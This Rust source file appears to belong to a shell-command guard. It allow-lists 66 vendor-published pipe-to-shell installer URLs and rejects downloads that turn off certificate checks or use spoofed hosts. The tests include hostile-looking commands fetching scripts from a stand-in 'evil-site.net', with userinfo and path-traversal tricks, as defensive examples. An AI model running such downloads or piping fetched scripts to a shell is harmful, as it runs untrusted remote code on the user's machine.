//! Installers that their vendors publish as a command to copy.

use canonry_guard::shell::SimpleCommand;

/// Installers that a project's documentation pipes to a shell or runs after the download: the host, and the path that it begins with. On
/// hosts where everybody has files, the path names the account and the repository. Each was read in November 2026 on the page or in the file
/// of the project's repository that stands beside it.
#[rustfmt::skip]
const PUBLISHED: [&str; 66] = [
    "app.factory.ai/cli", // Factory-AI/factory: README.md
    "astral.sh/uv/", // https://docs.astral.sh/uv/getting-started/installation/
    "bun.com/install", // https://github.com/oven-sh/bun/releases/tag/bun-v1.4.0
    "bun.sh/install", // https://github.com/oven-sh/bun/releases/tag/bun-v1.1.8
    "claude.ai/install", // anthropics/claude-code: README.md
    "cli.doppler.com/install.sh", // DopplerHQ/cli: INSTALL.md
    "cpanmin.us/", // miyagawa/cpanminus: App-cpanminus/README.md
    "cursor.com/install", // https://cursor.com/docs/cli/installation.md
    "d2lang.com/install.sh", // terrastruct/d2: README.md
    "deb.nodesource.com/setup_", // nodesource/distributions: DEV_README.md
    "deno.land/install.sh", // denoland/deno: README.md
    "dot.net/v1/dotnet-install.sh", // dotnet/install-scripts: docs/README.md
    "dprint.dev/install.sh", // dprint/dprint: website/src/install.md
    "elan.lean-lang.org/elan-init.sh", // leanprover/elan: README.md
    "encore.dev/install.sh", // encoredev/encore: README.md
    "fly.io/install.sh", // superfly/docs: flyctl/integrating.html.md
    "fnm.vercel.app/install", // Schniz/fnm: README.md
    "foundry.paradigm.xyz/", // foundry-rs/foundry: README.md
    "get.acme.sh/", // acmesh-official/acme.sh: README.md
    "get.anchore.io/", // anchore/syft: README.md
    "get.chezmoi.io/", // twpayne/chezmoi: assets/chezmoi.io/docs/user-guide/daily-operations.md
    "get.docker.com/", // docker/docker-install: README.md
    "get.k0s.sh/", // k0sproject/k0s: docs/install.md
    "get.k3s.io/", // k3s-io/docs: docs/quick-start.md
    "get.nextflow.io/", // nextflow-io/nextflow: README.md
    "get.pnpm.io/install", // pnpm/pnpm.io: docs/installation.md
    "get.pulumi.com/", // pulumi/pulumi: README.md
    "get.rvm.io/", // rvm/rvm: README.md
    "get.sdkman.io/", // sdkman/sdkman-cli: README.md
    "get.volta.sh/", // volta-cli/volta: dev/unix/boot-install.sh
    "getcomposer.org/installer", // composer/composer: doc/articles/troubleshooting.md
    "golangci-lint.run/install.sh", // golangci/golangci-lint: docs/content/docs/welcome/install/local.md
    "install.determinate.systems/", // DeterminateSystems/nix-installer: README.md
    "install.julialang.org/", // JuliaLang/juliaup: README.md
    "install.meteor.com/", // meteor/meteor: docs/source/install.md
    "install.ohmyz.sh/", // ohmyzsh/ohmyzsh: README.md
    "install.python-poetry.org/", // python-poetry/poetry: docs/_index.md
    "istio.io/downloadistio", // istio/istio: release/downloadIstioCandidate.sh
    "just.systems/install.sh", // casey/just: README.md
    "mise.jdx.dev/install.sh", // jdx/mise: docs/plugin-publishing.md
    "mise.run/", // jdx/mise: README.md
    "moonrepo.dev/install/", // moonrepo/moon: packages/cli/README.md
    "nixos.org/nix/install", // NixOS/nix: doc/manual/source/quick-start.md
    "ollama.com/install.sh", // ollama/ollama: README.md
    "opam.ocaml.org/install.sh", // ocaml/opam: doc/pages/Install.md
    "opencode.ai/install", // https://opencode.ai/docs
    "pixi.sh/install", // prefix-dev/pixi: README.md
    "pyenv.run/", // pyenv/pyenv: README.md
    "railway.com/install.sh", // railwayapp/cli: README.md
    "rclone.org/install.sh", // rclone/rclone: MANUAL.md
    "run.linkerd.io/install", // linkerd/linkerd2: CHANGES.md
    "setup.atuin.sh/", // atuinsh/atuin: .devcontainer/features/atuin/install.sh
    "sh.rustup.rs/", // rust-lang/rustup: doc/user-guide/src/installation/other.md
    "starship.rs/install.sh", // starship/starship: README.md
    "tailscale.com/install.sh", // tailscale/tailscale: scripts/installer.sh
    "taskfile.dev/install.sh", // go-task/task: website/src/latest/docs/installation.md
    "wasm-bindgen.github.io/wasm-pack/installer/", // wasm-bindgen/wasm-pack: docs/_installer/index.html
    "wasmtime.dev/install.sh", // bytecodealliance/wasmtime: README.md
    "raw.githubusercontent.com/ajeetdsouza/zoxide/", // ajeetdsouza/zoxide: README.md
    "raw.githubusercontent.com/aquasecurity/trivy/", // aquasecurity/trivy: docs/getting-started/installation.md
    "raw.githubusercontent.com/helm/helm/", // helm/helm-www: docs/intro/install.mdx
    "raw.githubusercontent.com/homebrew/install/", // Homebrew/install: README.md
    "raw.githubusercontent.com/k3d-io/k3d/", // k3d-io/k3d: README.md
    "raw.githubusercontent.com/kubernetes-sigs/kustomize/", // kubernetes-sigs/kustomize: site/content/en/docs/Getting started/installation.md
    "raw.githubusercontent.com/nvm-sh/nvm/", // nvm-sh/nvm: README.md
    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/", // ohmyzsh/ohmyzsh: README.md
];

/// Options that switch off the check of a certificate.
const INSECURE: [&str; 5] =
    ["-k", "--insecure", "--no-check-certificate", "--check-certificate=false", "-skipcertificatecheck"];

/// The host of a published installer, if a command downloads nothing else.
pub(super) fn host(download: &SimpleCommand) -> Option<String> {
    let words = || download.words.iter().skip(1).map(|word| word.text.to_ascii_lowercase());
    let is_insecure = |word: String| {
        let has_short = word.starts_with('-') && !word.starts_with("--") && word.contains('k') && !word.contains('=');
        INSECURE.contains(&word.as_str()) || has_short
    };
    if words().any(is_insecure) {
        return None;
    }
    let addresses: Vec<String> = words().filter(|word| is_address(word)).collect();
    let is_published = |address: &String| {
        let address = address.strip_prefix("https://").filter(|address| !address.contains(['@', '\\', '\0']))?;
        let address = if address.contains('/') { address.to_owned() } else { format!("{address}/") };
        // A path such as `/a/../b` leads elsewhere.
        let path = address.split(['?', '#']).next().unwrap_or_default();
        let is_known = PUBLISHED.iter().any(|prefix| path.starts_with(prefix)) && !path.contains("..");
        is_known.then(|| path.split('/').next().unwrap_or_default().to_owned())
    };
    let hosts: Option<Vec<String>> = addresses.iter().map(is_published).collect();
    hosts?.into_iter().next()
}

/// Whether an argument of a download is what it downloads.
pub(super) fn is_address(word: &str) -> bool {
    let host = word.split('/').next().unwrap_or_default();
    word.contains("://") || !word.starts_with('-') && host.contains('.') && host.contains(char::is_alphanumeric)
}

#[cfg(test)]
mod tests {
    use super::*;
    use canonry_guard::shell;

    #[test]
    fn entries_are_addresses_in_lower_case() {
        for entry in PUBLISHED {
            assert!(entry.contains('/') && is_address(entry) && entry == entry.to_ascii_lowercase(), "{entry}");
        }
    }

    #[test]
    fn only_published_installers_are_known() {
        for (command, want) in [
            ("curl -LsSf https://astral.sh/uv/install.sh", Some("astral.sh")),
            ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs", Some("sh.rustup.rs")),
            (
                "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh",
                Some("raw.githubusercontent.com"),
            ),
            ("curl https://raw.githubusercontent.com/stranger/homebrew/main/i.sh", None),
            ("curl https://evil-site.net/x.sh", None),
            ("curl http://astral.sh/uv/install.sh", None),
            ("curl -k https://astral.sh/uv/install.sh", None),
            ("curl -fskL https://astral.sh/uv/install.sh", None),
            ("curl https://astral.sh.evil-site.net/x", None),
            ("curl https://astral.sh@evil-site.net/x", None),
            ("curl https://raw.githubusercontent.com/homebrew/install/../../x/y", None),
            ("curl https://astral.sh/uv/install.sh https://evil-site.net/x.sh", None),
            ("curl https://astral.sh/uv/install.sh evil-site.net/x.sh", None),
            ("curl $URL", None),
        ] {
            let script = shell::read_script(command);
            assert_eq!(host(&script.commands[0]).as_deref(), want, "{command}");
        }
    }
}
